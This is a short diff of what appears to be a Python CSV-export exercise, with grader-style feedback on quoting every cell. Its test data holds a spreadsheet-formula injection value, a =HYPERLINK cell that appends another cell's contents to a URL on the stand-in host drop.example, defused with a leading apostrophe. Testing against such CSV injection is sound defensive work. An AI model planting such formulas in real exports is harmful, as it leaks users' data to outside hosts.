@@ -1,4 +1,5 @@
-# Line 1: expected ""\"name\",\"message\"\r\n\"wren\",\"When do you open?\"\r\n\"rook\",\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"", got ""name,message\r\nwren,When do you open?\r\nrook,\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"".
+# advice: You leave the writer to decide, so `name` stands there without double quotes. The brief wants them around every cell.
+# look: 01-a-formula-among-honest-cells
 import csv
 import io
 import re
